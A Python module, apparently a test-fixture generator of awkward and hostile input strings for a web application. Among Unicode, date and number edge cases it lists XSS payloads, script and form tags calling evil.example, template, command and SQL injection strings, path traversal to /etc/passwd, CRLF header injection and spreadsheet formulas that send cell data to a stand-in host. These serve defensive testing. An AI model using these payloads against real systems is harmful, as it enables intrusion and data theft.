"""Strings that have broken other people's software, made here from what goes wrong and not copied from a list.

Each that a browser could take for markup ends in a mark of its own, so that it can be found again on a page.
"""

from __future__ import annotations

from collections.abc import Iterator
from functools import cache
from itertools import product

MARK = "zq{}zq"
SUM = "1337zq"  # what 7*191 comes to, right before the mark: somebody reckoned
BELOW = "\u0316\u0317\u0324\u0331\u0353\u0359"
ABOVE = "\u0300\u0301\u0306\u030b\u035b\u0363\u0489"
OPENERS = ("", '"', "'", "`", '">', "'>", "</textarea>", "</title>", "</script>", "</style>", "-->", "]]>", "&quot;>")
ELEMENTS = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x></ScRiPt>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<iframe srcdoc='<b>x</b>'></iframe>",
    "<a href='javascript:alert(1)'>x</a>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<form action=//evil.example><input name=csrfmiddlewaretoken>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<style>*{display:none}</style>",
    "<!--<b>",
    " autofocus onfocus=alert(1) x=",
)
TEMPLATES = (
    "{{7*191}}", "{{ 7|add:1330 }}", "{% debug %}", "{% load look %}", "{% include 'look/500.html' %}",
    "{% csrf_token %}", "{{ settings.SECRET_KEY }}", "{{ request.META }}", "{# x #}", "{% endblock %}", "{{",
    "}}", "{%", "{{{{}}}}", "${7*191}", "#{7*191}", "<%= 7*191 %>", "*{7*191}", "@(7*191)", "[[7*191]]",
    "%(name)s", "%s%s%s%n", "%d", "%", "{0}", "{}", "{name}", "{0.__class__.__mro__}", "{self.__dict__}",
    "$(reboot)", "`reboot`", "; reboot", "| cat /etc/passwd", "&& id", "${jndi:ldap://x}",
)  # fmt: skip
SQL = (
    "'", "''", '"', "\\", "\\'", "';", "' OR '1'='1", "' OR 1=1 --", '" OR ""="',
    "'; DROP TABLE records_case; --", "1; SELECT 1", "' UNION SELECT NULL, NULL --", "') OR ('1'='1",
    "admin'--", "1/0", "%", "_", "%%", "\\%", "*", "?", "$1", ":name", "@@version", "0x31", "CHAR(65)",
    "/* x */", "--", "#", "x' AND SLEEP(9) --", "pg_sleep(9)", "E'\\x00'", "$$x$$",
)  # fmt: skip
PATHS = (
    "../../../../etc/passwd", "..\\..\\..\\windows\\win.ini", "/etc/passwd", "file:///etc/passwd",
    "%2e%2e%2fetc%2fpasswd", "....//....//etc/passwd", "..%c0%af..%c0%afetc", "C:\\con\\con",
    "\\\\evil.example\\x", "con", "nul.txt", "~root", "/dev/null", "a/b/c", "?q=1&r=2#x", "//evil.example",
    "https://evil.example", "javascript:alert(1)", "data:text/html,<b>x</b>",
)  # fmt: skip
LINES = (
    "x\r\nSet-Cookie: s=1", "x\r\n\r\n<html>", "x\nBcc: all@evil.example", "x%0d%0aLocation: //evil.example",
    "x\rx", "\r\n", "\n\n\n", "\tx\t", "x\x0bx", "x\x0cx", "x\u0085x", "x\u2028x", "x\u2029x", "x\\r\\nx",
    "x\\nx",
)  # fmt: skip
FORMULAS = ("1+1", "SUM(A1:A9)", "cmd|'/C calc'!A0", 'HYPERLINK("//evil.example?x="&A1,"y")', "DDE(1)", "1")
NUMBERS = (
    "0", "-0", "1", "-1", "+1", "00", "01", "1.0", "1,0", "1,000", "1e3", "1E400", "-1e-400", "0x10", "0b1",
    "0o7", "NaN", "nan", "Infinity", "-inf", "1_000", "999", "1000", "2147483647", "2147483648", "-2147483649",
    "9223372036854775808", "18446744073709551616", "9" * 30, "9" * 400, "0.1", ".5", "5.", "1/2", "½", "²", "Ⅷ",
    "٣", "৩", "३", "１２", "一", "1 2", "1\u00a02", "1%", "£1", "1st", "--1", "+-1", "1.2.3", "1:2",
    "07700 900123", "+44 (0)20 7946 0018", "999", "0" * 20, "HC-2026-0001", "R-2026-0001", "HC-0000-0000",
)  # fmt: skip
DATES = (
    "31 February 2026", "30 2 2026", "29 February 2025", "29 February 2024", "0 0 0", "00/00/0000",
    "99/99/9999", "32 13 2026", "1 1 1", "1/1/0001", "31 12 9999", "1 1 10000", "2026-11-22", "2026-02-30",
    "20261122", "22/11/26", "11/22/2026", "22.11.2026", "22 Nov", "November", "Smarch 2026", "tomorrow",
    "yesterday", "today", "next week", "in 3 weeks", "about 3 weeks ago", "about 0 weeks ago",
    "about -1 days ago", "about 99999999999 years ago", "a week ago", "last century", "2000 years ago",
    "march 0000", "24:00", "25:61", "12pm", "13pm", "0am", "4pm", "16:30", "noon", "midnight", "16.30.45",
    "4 o'clock", "2026-11-22T10:00:00Z", "2026-11-22 25:00", "২২ ১১ ২০২৬", "22 11 2026 BC", "1970-01-01",
    "28 March 2027 01:30", "about 1 month ago", "1 ago", "ago", "31 4 2026", "31/09/2026", "1752-09-05",
)  # fmt: skip
JSON = (
    "{}", "[]", "[[]]", '{"a":1}', '{"__proto__":{"x":1}}', '{"$ne":null}', "[" * 500, '{"a":' * 100, '"',
    '"\\ud800"', "\\u0000", "\\", "true", "false", "[1,2", "{'a':1}", '[{"id":"x"}]', "1,2,3", '{"a":NaN}',
    "/* */ {}", "--- !!python/object:os.system", "&a [*a]", "a: b",
)  # fmt: skip
NOTHINGS = (
    "null", "NULL", "None", "nil", "undefined", "N/A", "n/a", "-", ".", "..", "True", "False", "on", "off",
    "yes", "no", "(null)", "''", "[object Object]", "00000000-0000-0000-0000-000000000000", "not-a-uuid",
    "ffffffff-ffff-ffff-ffff-ffffffffffff", "me", "all", "*", "self", "__init__", "constructor",
)  # fmt: skip
BLANKS = (
    " ", "   ", "\t", "\n", "\u00a0", "\u3000", "\u2003", "\u200b", "\u2060", "\ufeff", "\u00ad", "\u115f",
    "\u3164", "\u2800", "\u180e", "x\u00a0x",
)  # fmt: skip
TONGUES = (
    "আমার দরজায় থুতু দিয়েছে", "মা\u200dনুষ ক্\u200dষ", "اس نے مجھ پر چیخا", "مي\u200cخواهم بروم",
    "השכן צעק עליי", "هَدَّدَني جاري ١٢٣ مرّة", "मेरे दरवाज़े पर", "என் கதவில்", "เขาตะโกนใส่ฉัน", "他在楼梯上骂我",
    "彼は私に叫んだ", "그가 소리쳤다", "Он кричал", "Wuu igu qayliyay", "Ọ kígbe mọ́ mi", "Ẽçǎ ð ŋ ħ",
    "Zażółć gęślą jaźń", "İstanbul ığüşöç", "ΌΣΟΣ όσος", "שלום abc سلام 123 def", "𐎠𐎼𐎹 𒀀𒁀", "𝕳𝖆𝖙𝖊", "ﷺ ﷽ ﬁﬀ",
    "Ａｂｃ１２３", "ß ẞ SS ſ", "Å Å Å", "e\u0301 é", "ǅ ǆ Ǆ", "K K", "ᏣᎳᎩ ᎾᏍᎩ", "ᚠᛇᚻ",
)  # fmt: skip
PICTURES = (
    "😀", "👨\u200d👩\u200d👧\u200d👦", "👩🏿\u200d🤝\u200d👩🏻", "🏴󠁧󠁢󠁷󠁬󠁳󠁿", "🇬🇧🇺🇦", "1️⃣2️⃣",
    "🏳️\u200d⚧️", "🏳️\u200d🌈", "👍🏿👍🏻", "❤️\ufe0e", "🧑\u200d🦽\u200d➡️", "\U0001f3ff",
    "\u200d\u200d\u200d", "\ufe0f", "🇬", "😀" * 60, "🫠🪿🫨", "♥︎♥️", "\U000e0067\U000e0062",
)  # fmt: skip
LONG = (
    "x" * 199, "x" * 200, "x" * 201, "word " * 41, "x" * 5_000, "x" * 5_001, "é" * 5_001, "নি" * 2_600,
    "x y\n" * 1_300, "😀" * 5_001, "x" * 50_000, "x" * 50_001, "a\n" * 30_000, "<" * 6_000, "&amp;" * 1_100,
    "é" * 3_000, "x" * 100_001, "9" * 5_001, " " * 6_000, "\u200b" * 6_000,
)  # fmt: skip
TWO_BY_TWO = (
    "name@example", "@", "a@b", "a@b.c", "a b@c.d", '"x"@example.org', "x@[127.0.0.1]", "a@b@c.d",
    "é@пример.рф", "x@" + "a." * 120 + "org",
)  # fmt: skip


def _odd_letters() -> Iterator[str]:
    yield from (f"be{chr(code)}fore" for code in (*range(0x20), *range(0x7F, 0xA0)))
    turning = (0x061C, 0x200E, 0x200F, *range(0x202A, 0x202F), *range(0x2066, 0x206A))
    yield from (f"ten{chr(code)}cod.exe" for code in turning)
    hidden = (0x00AD, 0x034F, 0x200B, 0x200C, 0x200D, 0x2060, 0x2061, 0x206F, 0xFE00, 0xFEFF, 0xE0001, 0xE0041)
    yield from (f"ad{chr(code)}min" for code in (*hidden, *range(0xFFF9, 0xFFFE)))
    yield from (f"x{chr(code)}x" for code in (0xFDD0, 0xFFFE, 0xFFFF, 0x1FFFE, 0x10FFFF, 0xE000, 0xF8FF, 0x10FFFD))
    yield from ("\0", "\0\0\0", "x\0", "\0x", "\x1b[31mred\x1b[0m", "\x1b]0;x\x07", "\x08\x08\x08x", "\x7f" * 9)
    zalgo = product((ABOVE, BELOW), (1, 4, 30))
    yield from ("".join(letter + marks * times for letter in "zalgo") for marks, times in zalgo)


def _marked() -> Iterator[str]:
    """What could be taken for markup or reckoned: each ends in its own mark."""
    bare = [f"{opener}{element}" for opener, element in product(OPENERS, ELEMENTS)]
    script = ELEMENTS[0]
    changed = [script.upper(), script.replace("t>", "t\n>"), script.replace("sc", "sc\0"), "<" + "script/x>" * 40]
    changed += ["&lt;script&gt;", "&#60;b&#62;", "\uff1cscript\uff1e", "%3Cscript%3E", "\\u003cscript\\u003e"]
    changed += ["+ADw-script+AD4-", "<\u200bscript>"]
    for n, text in enumerate([*bare, *changed, *TEMPLATES, *SQL, *PATHS]):
        yield text + MARK.format(n)


@cache
def strings() -> tuple[str, ...]:
    """All of them, none twice."""
    formulas = (f"{sign}{formula}" for sign, formula in product(("=", "+", "-", "@", "\t=", "\r=", " ="), FORMULAS))
    plain = (*LINES, *formulas, *NUMBERS, *DATES, *JSON, *NOTHINGS, *BLANKS, *TONGUES, *PICTURES, *LONG, *TWO_BY_TWO)
    return tuple(dict.fromkeys((*_marked(), *_odd_letters(), *plain)))


def mark_of(text: str) -> str:
    """The mark a string ends in; empty where it has none."""
    return f"zq{text.rsplit('zq', 2)[1]}zq" if text.endswith("zq") and text.count("zq") > 1 else ""


BROKEN = (
    b"\xff", b"\xfe\xff", b"\xc0\xaf", b"\xe2\x82", b"\xed\xa0\x80", b"\xed\xa0\xbd\xed\xb8\x80",
    b"\xf4\x90\x80\x80", b"\xf8\x88\x80\x80\x80", b"\x80", b"a\xc3", "café".encode("latin-1"),
    "“quoted”".encode("cp1252"), "x".encode("utf-16"), "былo".encode("koi8-r"), "日本".encode("shift_jis"),
    b"\x1f\x8b\x08\x00",
)  # fmt: skip
"""Bytes that are no UTF-8: lone surrogates among them, and texts as other systems write them."""
